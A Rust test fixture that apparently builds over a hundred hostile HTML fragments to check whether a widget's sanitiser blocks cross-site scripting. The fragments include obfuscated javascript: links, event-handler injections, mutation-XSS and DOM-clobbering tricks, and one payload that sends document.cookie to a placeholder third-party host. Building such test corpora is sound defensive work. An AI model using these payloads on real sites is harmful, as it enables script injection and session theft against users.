//! Hostile HTML in the response to a widget request.
//!
//! `RUN` stands for a script that reports the payload, `PAYLOAD` for its number, `HOST` for the origin of the lost
//! host, and `THIRD` for another origin.

use Place::{Form, Inside, Outside, Root, TakeButton};

/// Place of a payload in the fragment.
#[derive(Clone, Copy, Debug)]
pub enum Place {
    /// Inside the root, before its content.
    Inside,
    /// Before and after the root.
    Outside,
    /// In place of the root.
    Root,
    /// Attributes of the button that takes the pledge.
    TakeButton,
    /// Attributes of the pledge's form.
    Form,
}

impl Place {
    /// Puts a payload into a genuine fragment.
    pub fn forge(self, genuine: &str, payload: &str) -> String {
        let root = "<div data-sid-root>";
        let (_, rest) = genuine.split_once(root).unwrap();
        match self {
            Inside => format!("{root}{payload}{rest}"),
            Outside => format!("{payload}{genuine}{payload}"),
            Root => format!("{payload}{}", &rest[rest.rfind("<script").unwrap()..]),
            TakeButton => genuine.replacen("<button ", &format!("<button {payload} "), 1),
            Form => genuine.replacen("<form ", &format!("<form {payload} "), 1),
        }
    }

    /// Returns the HTML of a payload without a fragment around it.
    pub fn alone(self, payload: &str) -> String {
        match self {
            Inside | Root => format!("{payload}<p title='x'>x</p>"),
            Outside => format!("{payload}<div data-sid-root>x</div>{payload}"),
            TakeButton => format!("<form><button {payload}>x</button></form>"),
            Form => format!("<form {payload}><button>x</button></form>"),
        }
    }
}

/// Payloads: name, place and HTML.
#[rustfmt::skip]
pub const FRAGMENTS: &[(&str, Place, &str)] = &[
    // Scripts.
    ("script", Inside, "<script>RUN</script>"),
    ("script of the host", Inside, "<script src=HOST/evil/PAYLOAD.js></script>"),
    ("module script of the host", Inside, "<script type=module src=HOST/evil/PAYLOAD.js></script>"),
    ("script in SVG", Inside, "<svg><script>RUN</script></svg>"),
    ("script in SVG by href", Inside, "<svg><script href=HOST/evil/PAYLOAD.js></script></svg>"),
    ("script outside the root", Outside, "<script>RUN</script><img src=data:, onerror=RUN>"),
    ("import map and speculation rules", Inside, "<script type=importmap>{\"imports\":{\"x\":\"HOST/evil/PAYLOAD.js\"}}</script><script type=speculationrules>{\"prefetch\":[{\"urls\":[\"THIRD/fetched/PAYLOAD\"]}]}</script><script type=module>import 'x'</script>"),
    // Event handlers of elements that load something.
    ("image", Inside, "<img src=data:, onerror=RUN>"),
    ("image that changes the title", Inside, "<img src=data:, onerror=document.title=PAYLOAD>"),
    ("image with a dialogue", Inside, "<img src=data:, onerror=alert(PAYLOAD)>"),
    ("image that sends the cookie", Inside, "<img src=data:, onerror=\"new Image().src=`THIRD/ran/PAYLOAD?`+document.cookie\">"),
    ("image in upper case with slashes", Inside, "<IMG/SRC='data:,'/OnErRoR=RUN>"),
    ("image with a handler in entities", Inside, "<img src=data:, onerror=&#95;&#x5f;ran&lpar;PAYLOAD&rpar;>"),
    ("image with control characters", Inside, "<img\u{c}src=data:,\u{c}\u{b}=\u{c}x\u{c}onerror\u{c}=\u{c}RUN\u{c}>"),
    ("image by its old name", Inside, "<image src=data:, onerror=RUN>"),
    ("picture", Inside, "<picture><source srcset=data:,><img onerror=RUN></picture>"),
    ("video", Inside, "<video src=data:, onerror=RUN></video>"),
    ("source of a video", Inside, "<video><source src=data:, onerror=RUN></video>"),
    ("audio", Inside, "<audio src=data:, onerror=RUN></audio>"),
    ("image button", Inside, "<input type=image src=data:, onerror=RUN>"),
    ("style sheet in a link", Inside, "<link rel=stylesheet href=data:text/css, onload=RUN onerror=RUN>"),
    ("module preload", Inside, "<link rel=modulepreload href=HOST/evil/PAYLOAD.js onload=RUN onerror=RUN>"),
    ("style element", Inside, "<style onload=RUN>p{}</style>"),
    ("frame with a handler", Inside, "<iframe onload=RUN></iframe>"),
    ("object", Inside, "<object data=data:x onerror=RUN onload=RUN></object>"),
    ("embedded content", Inside, "<embed src=data:text/html, onload=RUN onerror=RUN>"),
    ("SVG", Inside, "<svg onload=RUN></svg>"),
    ("SVG image", Inside, "<svg><image href=data:, onerror=RUN /></svg>"),
    ("SVG animation", Inside, "<svg><rect><animate onbegin=RUN attributeName=x dur=1s /></rect></svg>"),
    // Event handlers that need no load.
    ("disclosure", Inside, "<details open ontoggle=RUN><summary>x</summary></details>"),
    ("focus", Inside, "<input autofocus onfocus=RUN>"),
    ("focus of any element", Inside, "<p tabindex=1 autofocus onfocus=RUN>x</p>"),
    ("editable text", Inside, "<p contenteditable autofocus onfocus=RUN oninput=RUN>x</p>"),
    ("pointer", Inside, "<p onpointerover=RUN onpointerenter=RUN onpointerrawupdate=RUN>x</p>"),
    ("click", Inside, "<p onclick=RUN>x</p>"),
    ("click on a genuine button", TakeButton, "onclick=RUN onpointerover=RUN"),
    ("submission of the genuine form", Form, "onsubmit=RUN onformdata=RUN onclick=RUN"),
    ("animation", Inside, "<style>@keyframes a{from{opacity:0}}</style><p style=\"animation:a 1ms\" onanimationstart=RUN onanimationend=RUN>x</p>"),
    ("transition", Inside, "<p onwebkittransitionend=RUN ontransitionend=RUN>x</p>"),
    ("popover", Inside, "<button popovertarget=pop>x</button><div popover id=pop onbeforetoggle=RUN>y</div>"),
    ("dialog", Inside, "<dialog open onclose=RUN oncancel=RUN><form method=dialog><button>x</button></form></dialog>"),
    ("marquee", Inside, "<marquee onstart=RUN onfinish=RUN>x</marquee>"),
    ("body", Inside, "<body onload=RUN onpageshow=RUN><p onclick=RUN>x</p>"),
    ("slot", Inside, "<slot onslotchange=RUN onclick=RUN></slot>"),
    ("named slot", Inside, "<slot name=x><img src=data:, onerror=RUN></slot>"),
    // Documents within the page.
    ("frame with HTML", Inside, "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>"),
    ("frame with a script of the host", Inside, "<iframe srcdoc=\"<script src=HOST/evil/PAYLOAD.js></script>\"></iframe>"),
    ("frame with a script address", Inside, "<iframe src=javascript:parent.RUN></iframe>"),
    ("frame from elsewhere", Inside, "<iframe src=THIRD/fetched/PAYLOAD></iframe>"),
    ("object with a script address", Inside, "<object data=javascript:parent.RUN></object>"),
    ("embedded script address", Inside, "<embed src=javascript:parent.RUN>"),
    ("object from elsewhere", Inside, "<object data=THIRD/fetched/PAYLOAD type=text/html></object>"),
    ("fenced frame and portal", Inside, "<fencedframe src=THIRD/fetched/PAYLOAD></fencedframe><portal src=THIRD/fetched/PAYLOAD onload=RUN onclick=RUN></portal>"),
    ("frame set", Inside, "<frameset onload=RUN><frame src=javascript:parent.RUN></frameset><p onclick=RUN>x</p>"),
    // Addresses.
    ("link", Inside, "<a href=javascript:RUN>x</a>"),
    ("link in mixed case", Inside, "<a href=JaVaScRiPt:RUN>x</a>"),
    ("link with a tab and lines", Inside, "<a href=\"java\tscr\nipt\r\n:RUN\">x</a>"),
    ("link with entities", Inside, "<a href=\"&#106;ava&Tab;scr&NewLine;ipt&colon;RUN\">x</a>"),
    ("link behind control characters", Inside, "<a href=\"&#1;&#8;&#14;&#31; \u{1f}javascript:RUN\">x</a>"),
    ("link that resembles one to a page", Inside, "<a href=\"javascript://www.wikipedia.org/%0aRUN\">x</a>"),
    ("link into a new tab", Inside, "<a target=_blank rel=opener href=\"javascript:opener.RUN\">x</a>"),
    ("link to data", Inside, "<a href=\"data:text/html,<script>opener.RUN</script>\">x</a>"),
    ("link to VBScript", Inside, "<a href=vbscript:RUN>x</a>"),
    ("link with a ping", Inside, "<a href=#x ping=THIRD/fetched/PAYLOAD attributionsrc=THIRD/fetched/PAYLOAD>x</a>"),
    ("area", Inside, "<map name=m><area href=javascript:RUN shape=default></map>"),
    ("link in SVG", Inside, "<svg><a xlink:href=javascript:RUN><text>x</text></a></svg>"),
    ("link in SVG by href", Inside, "<svg><a href=javascript:RUN><text>x</text></a></svg>"),
    ("link in SVG that is animated", Inside, "<svg><a><animate attributeName=href values=javascript:RUN dur=9s fill=freeze /><text>x</text></a></svg>"),
    ("link in SVG that is set", Inside, "<svg><a><set attributeName=href to=javascript:RUN /><text>x</text></a></svg>"),
    ("link in MathML", Inside, "<math href=javascript:RUN><mi href=javascript:RUN>x</mi></math>"),
    ("symbol in SVG", Inside, "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='RUN'/></svg>#x\"/></svg>"),
    ("foreign object", Inside, "<svg><foreignObject><img src=data:, onerror=RUN></foreignObject></svg>"),
    ("form", Inside, "<form action=javascript:RUN><button>x</button></form>"),
    ("form with a button's address", Inside, "<form action=/><button formaction=javascript:RUN>x</button></form>"),
    ("form with an image's address", Inside, "<form action=/><input type=image src=data:, formaction=javascript:RUN></form>"),
    ("form with a target", Inside, "<iframe name=f></iframe><form action=javascript:parent.RUN target=f><button>x</button></form>"),
    ("genuine form with another address", Form, "action=javascript:RUN"),
    ("genuine button with an address", TakeButton, "formaction=javascript:RUN formtarget=_self"),
    ("nested forms", Inside, "<form><div></form><form action=javascript:RUN><button>x</button></form></div>"),
    ("button of another form", Inside, "<form id=f></form><button form=f formaction=javascript:RUN>x</button>"),
    ("base", Inside, "<base href=\"javascript:/RUN;//\"><a href=x>x</a>"),
    ("refresh", Inside, "<meta http-equiv=refresh content=\"0;url=javascript:RUN\"><meta http-equiv=refresh content=\"0;url=THIRD/fetched/PAYLOAD\">"),
    // Namespaces, mutations and comments.
    ("MathML with a style", Inside, "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=data:, onerror=RUN&gt;\">"),
    ("MathML between forms", Inside, "<form><math><mtext></form><form><mglyph><style></math><img src=data:, onerror=RUN>"),
    ("annotation", Inside, "<math><annotation-xml encoding=text/html><img src=data:, onerror=RUN></annotation-xml></math>"),
    ("SVG with a style", Inside, "<svg></p><style><a id=\"</style><img src=data:, onerror=RUN>\">"),
    ("text without scripts", Inside, "<noscript><p title=\"</noscript><img src=data:, onerror=RUN>\"></noscript>"),
    ("text elements", Inside, "<xmp><p title=\"</xmp><img src=data:, onerror=RUN>\"></xmp><noembed><p title=\"</noembed><img src=data:, onerror=RUN>\">"),
    ("title and text area", Inside, "<title><p title=\"</title><img src=data:, onerror=RUN>\"></title><textarea></textarea><img src=data:, onerror=RUN>"),
    ("comments", Inside, "<!--><img src=data:, onerror=RUN>--><!--!><img src=data:, onerror=RUN>--!><img src=data:, onerror=RUN>"),
    ("processing instruction and CDATA", Inside, "<?x ><img src=data:, onerror=RUN>?><![CDATA[><img src=data:, onerror=RUN>]]>"),
    ("unclosed attribute", Inside, "<p title=\"</p><img src=data:, onerror=RUN>\"><img src=data:, onerror=RUN alt='"),
    ("unclosed tag", Outside, "<img src=data:, onerror=RUN "),
    ("template", Inside, "<template><script>RUN</script></template><div><template shadowrootmode=open><img src=data:, onerror=RUN></template></div>"),
    ("table", Inside, "<table><tr><img src=data:, onerror=RUN><td background=THIRD/fetched/PAYLOAD></table>"),
    ("deep nesting", Inside, "NESTED<img src=data:, onerror=RUN>"),
    // Names that stand in the way of a sanitiser.
    ("form that hides its attributes", Inside, "<form onclick=RUN onpointerover=RUN><input name=attributes><input name=getAttributeNames><input name=removeAttribute></form>"),
    ("form that hides its children", Inside, "<form><input name=childNodes><input name=children><input name=firstChild><input name=firstElementChild><input name=querySelectorAll><img src=data:, onerror=RUN></form>"),
    ("form that hides its name", Inside, "<form onclick=RUN action=javascript:RUN><input name=nodeName><input name=localName><input name=tagName><input name=nodeType><button>x</button></form>"),
    ("form that hides its place", Inside, "<form onclick=RUN><input name=parentNode><input name=remove><input name=replaceWith><input name=nextSibling><input name=nextNode><input name=before></form>"),
    ("form that hides its address", Inside, "<form action=javascript:RUN><input name=action value=/><input name=getAttribute><input name=setAttribute><button>x</button></form>"),
    ("form that hides its fields", Inside, "<form action=javascript:RUN id=sid-form><input name=id><input name=submit><input name=elements><input name=method><button>x</button></form>"),
    ("form in place of a widget's", Inside, "<form id=sid-form action=javascript:RUN><button id=sid-take>x</button></form>"),
    // The page's own elements.
    ("element of the page", Inside, "<partner-box data-run=PAYLOAD></partner-box>"),
    ("extended element of the page", Inside, "<p is=partner-text data-run=PAYLOAD></p>"),
    ("widget in the widget", Inside, "<sid-pledge endpoint=THIRD/fetched/PAYLOAD partner=nPAYLOAD></sid-pledge>"),
    // Roots.
    ("two roots", Inside, "</div><div data-sid-root><img src=data:, onerror=RUN>"),
    ("root within the root", Inside, "<div data-sid-root onclick=RUN><img src=data:, onerror=RUN></div>"),
    ("root with handlers", Root, "<div data-sid-root onclick=RUN onpointerover=RUN style=\"background:url(THIRD/fetched/PAYLOAD)\"><p>x</p></div>"),
    ("root that is an image", Root, "<img data-sid-root src=data:, onerror=RUN>"),
    ("root that is a script", Root, "<script data-sid-root>RUN</script>"),
    ("root that is SVG", Root, "<svg data-sid-root onload=RUN onclick=RUN><a href=javascript:RUN><text>x</text></a></svg>"),
    ("root that is a frame", Root, "<iframe data-sid-root srcdoc=\"<script>parent.RUN</script>\" onload=RUN></iframe>"),
    ("root that is a link", Root, "<a data-sid-root href=javascript:RUN>x</a>"),
    ("root that is a form", Root, "<form data-sid-root action=javascript:RUN onclick=RUN><button>x</button></form>"),
    ("root that is an element of the page", Root, "<partner-box data-sid-root data-run=PAYLOAD>x</partner-box>"),
    ("root that is a style", Root, "<style data-sid-root onload=RUN>@import 'THIRD/fetched/PAYLOAD';</style>"),
    ("root in a link", Root, "<a href=javascript:RUN onclick=RUN><div data-sid-root><p>x</p></div></a>"),
    ("no root", Root, "<p><img src=data:, onerror=RUN></p>"),
    ("properties that are an image", Outside, "<img data-sid-props src=data:, onerror=RUN>"),
    ("properties that close their script", Outside, "<script type=application/json data-sid-props>{\"a\":\"</script><img src=data:, onerror=RUN>\"}</script>"),
    // Requests to other servers.
    ("image from elsewhere", Inside, "<img src=THIRD/fetched/PAYLOAD srcset=\"THIRD/fetched/PAYLOAD 1x\">"),
    ("media from elsewhere", Inside, "<video poster=THIRD/fetched/PAYLOAD src=THIRD/fetched/PAYLOAD></video><input type=image src=THIRD/fetched/PAYLOAD>"),
    ("style sheet from elsewhere", Inside, "<link rel=stylesheet href=THIRD/fetched/PAYLOAD><link rel=preload as=image href=THIRD/fetched/PAYLOAD>"),
    ("style with an import", Inside, "<style>@import 'THIRD/fetched/PAYLOAD'; article{background:url(THIRD/fetched/PAYLOAD)}</style>"),
    ("style attribute", Inside, "<p style=\"position:fixed;inset:0;background:url(THIRD/fetched/PAYLOAD)\">x</p>"),
    ("SVG from elsewhere", Inside, "<svg><image href=THIRD/fetched/PAYLOAD /><use href=THIRD/fetched/PAYLOAD#x /><filter id=f><feImage href=THIRD/fetched/PAYLOAD /></filter><rect filter=url(#f) fill=url(THIRD/fetched/PAYLOAD#x) mask=url(THIRD/fetched/PAYLOAD#x) width=9 height=9 /></svg>"),
];

/// Returns the HTML of a payload.
pub fn html(payload: usize, host: &str, third_party: &str) -> String {
    FRAGMENTS[payload]
        .2
        .replace("NESTED", &"<div>".repeat(600))
        .replace("RUN", "__ran(PAYLOAD)")
        .replace("PAYLOAD", &payload.to_string())
        .replace("HOST", host)
        .replace("THIRD", third_party)
}
